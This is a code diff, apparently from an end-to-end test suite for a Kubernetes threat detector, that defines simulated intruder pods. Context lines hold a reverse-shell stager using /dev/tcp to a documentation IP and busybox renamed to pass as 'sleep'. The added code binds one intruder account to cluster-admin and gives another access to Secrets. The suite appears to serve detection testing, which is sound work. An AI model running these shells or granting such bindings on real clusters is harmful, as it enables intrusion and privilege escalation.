@@ -82,6 +82,7 @@ cp /bin/busybox /tmp/sleep; echo >>/tmp/sleep; /tmp/sleep 40113 & sleep 1; rm /t
   },
   drifter: {
     script: `cp /bin/busybox /usr/local/bin/.cached; exec bash -c 'exec -a sleep /usr/local/bin/.cached 40114'`,
+    spec: { serviceAccountName: 'reader' },
     runs: ['sleep 40114'],
   },
   covered: { script: 'exec sleep 40115', runs: ['sleep 40115'] },
@@ -154,9 +155,37 @@ exec perl -e '${debugging(40127)}' "$pid"`,
   },
   stager: {
     script: `exec bash -c 'exec 3<>/dev/tcp/198.51.100.66/4444; cat <&3 | sh'`,
+    spec: { serviceAccountName: 'admin' },
     runs: [],
   },
 };
+
+/** A binding of the whole cluster, which does not go with the namespace. */
+export const adminBinding = 'e2e-findings-intruder';
+
+/** Accounts of two pods of the intruder in a namespace: one reads its Secrets, one may do everything. */
+export function intruderAccounts(namespace: string): object[] {
+  const apiVersion = 'rbac.authorization.k8s.io/v1';
+  const account = (name: string): object => ({
+    apiVersion: 'v1',
+    kind: 'ServiceAccount',
+    metadata: { name },
+  });
+  const given = (name: string, role: string): object => ({
+    roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: role },
+    subjects: [{ kind: 'ServiceAccount', name, namespace }],
+  });
+  return [
+    ...['reader', 'admin'].map(account),
+    { apiVersion, kind: 'RoleBinding', metadata: { name: 'reader' }, ...given('reader', 'edit') },
+    {
+      apiVersion,
+      kind: 'ClusterRoleBinding',
+      metadata: { name: adminBinding },
+      ...given('admin', 'cluster-admin'),
+    },
+  ];
+}
 
 /** The pods of the intruder on a node. */
 export function intruderPods(node: string, image: string): object[] {
